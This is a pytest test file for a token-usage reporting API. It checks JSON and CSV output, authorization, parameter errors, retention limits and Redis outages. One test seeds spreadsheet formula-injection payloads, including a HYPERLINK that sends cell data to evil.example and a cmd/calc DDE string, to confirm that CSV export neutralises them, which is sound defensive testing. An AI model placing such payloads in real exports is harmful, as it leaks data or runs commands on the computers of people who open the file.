"""The usage API on a real port over the memory store and a real Redis, with the demo API keys."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
from collections.abc import AsyncIterator
from dataclasses import replace

import httpx
import pytest

from extproc.authz.api_keys import ApiKeyIdentities
from extproc.config import Secret, StoreConfig
from extproc.observability.usage_api import UsageApi
from extproc.observability.usage_query import GROUPS, GroupBy, utc_today
from extproc.store.base import CounterStore, Hold, LedgerEntry
from extproc.store.memory import MemoryStore
from extproc.store.redis import RedisStore
from tests.helpers import KEYS, LOCAL
from tests.redis_fixtures import RedisServer, free_port

RETENTION_DAYS = 30
TODAY = utc_today()
YESTERDAY = TODAY - dt.timedelta(days=1)
ADMIN_KEY = "demo-admin-key"
REDIS_DB = 5  # a database of its own on the shared server, flushed by each test
# No seeded request reported the informational token kinds or was priced: null, not 0.
NOT_REPORTED = {
    "cached_tokens": None,
    "cache_creation_tokens": None,
    "reasoning_tokens": None,
    "cost_micros": None,
    "priced_requests": 0,
}


def entry(user: str, day: dt.date, model: str, prompt: int, completion: int) -> LedgerEntry:
    return LedgerEntry(
        userid=user,
        day=day.strftime("%Y%m%d"),
        model=model,
        prompt_tokens=prompt,
        completion_tokens=completion,
        total_tokens=prompt + completion,
        estimated_tokens=0,
    )


SEED = [
    entry("alice", YESTERDAY, "opt", 10, 5),
    entry("alice", TODAY, "opt", 3, 4),
    entry("alice", TODAY, "llama", 1, 1),
    entry("bob", TODAY, "opt", 100, 50),
]


async def seed(store: CounterStore) -> None:
    now_ms = time.time_ns() // 1_000_000
    for item in SEED:
        await store.settle([], item, now_ms)
    # One request admitted today whose charge never came: 40 tokens held, unsettled.
    await store.admit([], now_ms, Hold("alice", TODAY.strftime("%Y%m%d"), "opt", 40))


def redis_store(port: int) -> RedisStore:
    url = Secret(f"redis://127.0.0.1:{port}/{REDIS_DB}")
    return RedisStore.from_config(StoreConfig(url=url, timeout_s=1.0))


def empty_store(request: pytest.FixtureRequest) -> CounterStore:
    """The memory store, or a flushed database of the shared Redis (``request.param``)."""
    if request.param == "memory":
        return MemoryStore(retention_days=RETENTION_DAYS)
    server: RedisServer = request.getfixturevalue("redis_server")
    server.cli_command("-n", str(REDIS_DB), "flushdb")
    return redis_store(server.port)


@pytest.fixture(params=["memory", pytest.param("redis", marks=pytest.mark.redis)])
async def store(request: pytest.FixtureRequest) -> AsyncIterator[CounterStore]:
    backend = empty_store(request)
    await seed(backend)
    yield backend
    await backend.close()


async def serving(
    store: CounterStore, groups: tuple[GroupBy, ...] = GROUPS
) -> tuple[UsageApi, str]:
    api = UsageApi(
        store,
        ApiKeyIdentities.from_file(LOCAL / "api-keys.yaml"),
        retention_days=RETENTION_DAYS,
        admin_group="maas-admins",
        groups=groups,
    )
    port = free_port()
    await api.start("127.0.0.1", port)
    return api, f"http://127.0.0.1:{port}"


@pytest.fixture
async def client(store: CounterStore) -> AsyncIterator[httpx.AsyncClient]:
    api, url = await serving(store)
    try:
        async with httpx.AsyncClient(base_url=url, timeout=5) as http:
            yield http
    finally:
        await api.stop()


def as_(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


ALICE, BOB = as_(KEYS["free"]), as_(KEYS["premium"])


async def test_own_usage_by_day_with_totals(client: httpx.AsyncClient) -> None:
    response = await client.get("/v1/usage", params={"from": YESTERDAY.isoformat()}, headers=ALICE)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    body = response.json()
    assert (body["user"], body["from"], body["to"]) == (
        "alice",
        YESTERDAY.isoformat(),
        TODAY.isoformat(),
    )
    assert body["group_by"] == "day"
    assert body["rows"] == [
        {"day": YESTERDAY.isoformat(), "prompt_tokens": 10, "completion_tokens": 5,
         "total_tokens": 15, "estimated_tokens": 0, "requests": 1,
         "unsettled_tokens": 0, "unsettled_requests": 0, **NOT_REPORTED},
        {"day": TODAY.isoformat(), "prompt_tokens": 4, "completion_tokens": 5,
         "total_tokens": 9, "estimated_tokens": 0, "requests": 2,
         "unsettled_tokens": 40, "unsettled_requests": 1, **NOT_REPORTED},
    ]  # fmt: skip
    assert body["totals"] == {
        "prompt_tokens": 14,
        "completion_tokens": 10,
        "total_tokens": 24,
        "estimated_tokens": 0,
        "requests": 3,
        "unsettled_tokens": 40,
        "unsettled_requests": 1,
        **NOT_REPORTED,
    }


async def test_today_by_model_is_the_default_period(client: httpx.AsyncClient) -> None:
    body = (await client.get("/v1/usage", params={"group_by": "model"}, headers=ALICE)).json()
    assert (body["from"], body["to"]) == (TODAY.isoformat(), TODAY.isoformat())
    assert [(row["model"], row["total_tokens"]) for row in body["rows"]] == [
        ("llama", 2),
        ("opt", 7),
    ]
    assert body["totals"]["total_tokens"] == 9


@pytest.mark.parametrize(
    "ask", [{"params": {"format": "csv"}}, {"headers": {"Accept": "text/csv"}}]
)
async def test_csv_by_parameter_or_accept_header(
    client: httpx.AsyncClient, ask: dict[str, dict[str, str]]
) -> None:
    params = {"from": YESTERDAY.isoformat(), **ask.get("params", {})}
    response = await client.get(
        "/v1/usage", params=params, headers={**ALICE, **ask.get("headers", {})}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(row["day"], row["total_tokens"]) for row in rows] == [
        (YESTERDAY.isoformat(), "15"),
        (TODAY.isoformat(), "9"),
    ]


@pytest.mark.parametrize("headers", [{}, as_("not-a-key"), {"Authorization": "Basic abc"}])
async def test_no_or_bad_token_is_401_with_a_bearer_challenge(
    client: httpx.AsyncClient, headers: dict[str, str]
) -> None:
    for path in ("/v1/usage", "/v1/usage/users"):
        response = await client.get(path, headers=headers)
        assert response.status_code == 401
        assert response.headers["www-authenticate"].startswith("Bearer")
        assert response.json()["error"]["code"] == "unauthenticated"


async def test_a_user_cannot_read_another_users_usage(client: httpx.AsyncClient) -> None:
    response = await client.get("/v1/usage", params={"user": "bob"}, headers=ALICE)
    assert response.status_code == 403
    assert response.json()["error"]["code"] == "forbidden"
    own = await client.get("/v1/usage", params={"user": "alice"}, headers=ALICE)
    assert own.status_code == 200
    listing = await client.get("/v1/usage/users", headers=BOB)
    assert listing.status_code == 403


async def test_an_admin_reads_everyone_and_lists_users(client: httpx.AsyncClient) -> None:
    bob = await client.get("/v1/usage", params={"user": "bob"}, headers=as_(ADMIN_KEY))
    assert bob.status_code == 200
    assert bob.json()["totals"]["total_tokens"] == 150
    listing = await client.get(
        "/v1/usage/users", params={"from": YESTERDAY.isoformat()}, headers=as_(ADMIN_KEY)
    )
    assert listing.status_code == 200
    body = listing.json()
    assert [(row["user"], row["total_tokens"], row["requests"]) for row in body["rows"]] == [
        ("alice", 24, 3),
        ("bob", 150, 1),
    ]
    assert body["totals"]["total_tokens"] == 174
    as_csv = await client.get("/v1/usage/users", params={"format": "csv"}, headers=as_(ADMIN_KEY))
    assert as_csv.text.splitlines()[1:] == [
        "alice,4,5,9,0,2,40,1,,,,,0",
        "bob,100,50,150,0,1,0,0,,,,,0",
    ]


@pytest.mark.parametrize(
    ("params", "parameter"),
    [
        ({"from": "2025-02-30"}, "from"),
        ({"to": "tomorrow"}, "to"),
        ({"from": TODAY.isoformat(), "to": YESTERDAY.isoformat()}, "to"),
        ({"group_by": "week"}, "group_by"),
        ({"format": "xml"}, "format"),
        ({"limit": "3"}, "limit"),
    ],
)
async def test_bad_parameters_are_400_naming_the_parameter(
    client: httpx.AsyncClient, params: dict[str, str], parameter: str
) -> None:
    response = await client.get("/v1/usage", params=params, headers=ALICE)
    assert response.status_code == 400
    error = response.json()["error"]
    assert error["code"] == "bad_parameter"
    assert error["parameter"] == parameter
    assert error["message"].startswith(f"{parameter}: expected")


async def test_an_empty_period_is_200_with_no_rows_and_zero_totals(
    client: httpx.AsyncClient,
) -> None:
    day = (TODAY - dt.timedelta(days=5)).isoformat()
    response = await client.get("/v1/usage", params={"from": day, "to": day}, headers=ALICE)
    assert response.status_code == 200
    assert response.json()["rows"] == []
    assert set(response.json()["totals"].values()) == {0, None}
    nobody = await client.get(
        "/v1/usage/users", params={"from": day, "to": day}, headers=as_(ADMIN_KEY)
    )
    assert nobody.json()["rows"] == []


async def test_periods_beyond_the_retention_are_refused_not_cut(
    client: httpx.AsyncClient,
) -> None:
    too_early = (TODAY - dt.timedelta(days=RETENTION_DAYS)).isoformat()
    response = await client.get("/v1/usage", params={"from": too_early}, headers=ALICE)
    assert response.status_code == 400
    assert "retention_days" in response.json()["error"]["message"]
    oldest = (TODAY - dt.timedelta(days=RETENTION_DAYS - 1)).isoformat()
    too_long = {"from": oldest, "to": (TODAY + dt.timedelta(days=1)).isoformat()}
    response = await client.get("/v1/usage/users", params=too_long, headers=as_(ADMIN_KEY))
    assert response.status_code == 400
    assert response.json()["error"]["parameter"] == "from"
    within = await client.get("/v1/usage", params={"from": oldest}, headers=ALICE)
    assert within.status_code == 200


@pytest.mark.redis
async def test_store_down_is_503(own_redis_server: RedisServer) -> None:
    backend = redis_store(own_redis_server.port)
    await seed(backend)
    api, url = await serving(backend)
    try:
        async with httpx.AsyncClient(base_url=url, timeout=5) as http:
            assert (await http.get("/v1/usage", headers=ALICE)).status_code == 200
            own_redis_server.stop()
            response = await http.get("/v1/usage", headers=ALICE)
            assert response.status_code == 503
            assert response.json()["error"]["code"] == "unavailable"
            listing = await http.get("/v1/usage/users", headers=as_(ADMIN_KEY))
            assert listing.status_code == 503
    finally:
        await api.stop()
        await backend.close()


# Cells a spreadsheet would run as formulas (OWASP CSV injection), as user ids and model names.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def first_column(text: str) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(text))][1:]


async def test_csv_cells_never_start_a_formula(
    store: CounterStore, client: httpx.AsyncClient
) -> None:
    now_ms = time.time_ns() // 1_000_000
    for name in HOSTILE:
        await store.settle([], entry(name, TODAY, "opt", 1, 1), now_ms)
        await store.settle([], entry("alice", TODAY, name, 1, 1), now_ms)
    users = await client.get("/v1/usage/users", params={"format": "csv"}, headers=as_(ADMIN_KEY))
    models = await client.get(
        "/v1/usage", params={"format": "csv", "group_by": "model"}, headers=ALICE
    )
    assert sorted(first_column(users.text)) == sorted(
        ["alice", "bob", *("'" + name for name in HOSTILE)]
    )
    assert sorted(first_column(models.text)) == sorted(
        ["llama", "opt", *("'" + name for name in HOSTILE)]
    )
    document = (await client.get("/v1/usage/users", headers=as_(ADMIN_KEY))).json()
    assert {row["user"] for row in document["rows"]} >= set(HOSTILE)  # JSON keeps them as they are


async def test_token_kinds_and_cost_by_model_as_json_and_csv(
    store: CounterStore, client: httpx.AsyncClient
) -> None:
    """Issue #16: the kinds a response reported and its exact cost; a model whose requests
    reported none of them shows null (JSON) or an empty cell (CSV), never 0."""
    priced = replace(
        entry("alice", TODAY, "granite", 1000, 300),
        cached_tokens=800, cache_creation_tokens=0, reasoning_tokens=100, cost_micros=4503,
        cached_reported=1, cache_creation_reported=1, reasoning_reported=1, priced_requests=1,
    )  # fmt: skip
    await store.settle([], priced, time.time_ns() // 1_000_000)
    query = {"group_by": "model"}
    body = (await client.get("/v1/usage", params=query, headers=ALICE)).json()
    kinds = ("cached_tokens", "cache_creation_tokens", "reasoning_tokens", "cost_micros")
    by_model = {row["model"]: [row[k] for k in (*kinds, "priced_requests")] for row in body["rows"]}
    assert by_model == {
        "granite": [800, 0, 100, 4503, 1],
        "llama": [None, None, None, None, 0],
        "opt": [None, None, None, None, 0],
    }
    assert [body["totals"][k] for k in kinds] == [800, 0, 100, 4503]
    as_csv = await client.get("/v1/usage", params={**query, "format": "csv"}, headers=ALICE)
    assert as_csv.text.splitlines()[1] == "granite,1000,300,1300,0,1,0,0,800,0,100,4503,1"
    assert as_csv.text.splitlines()[2].endswith(",,,,,0")
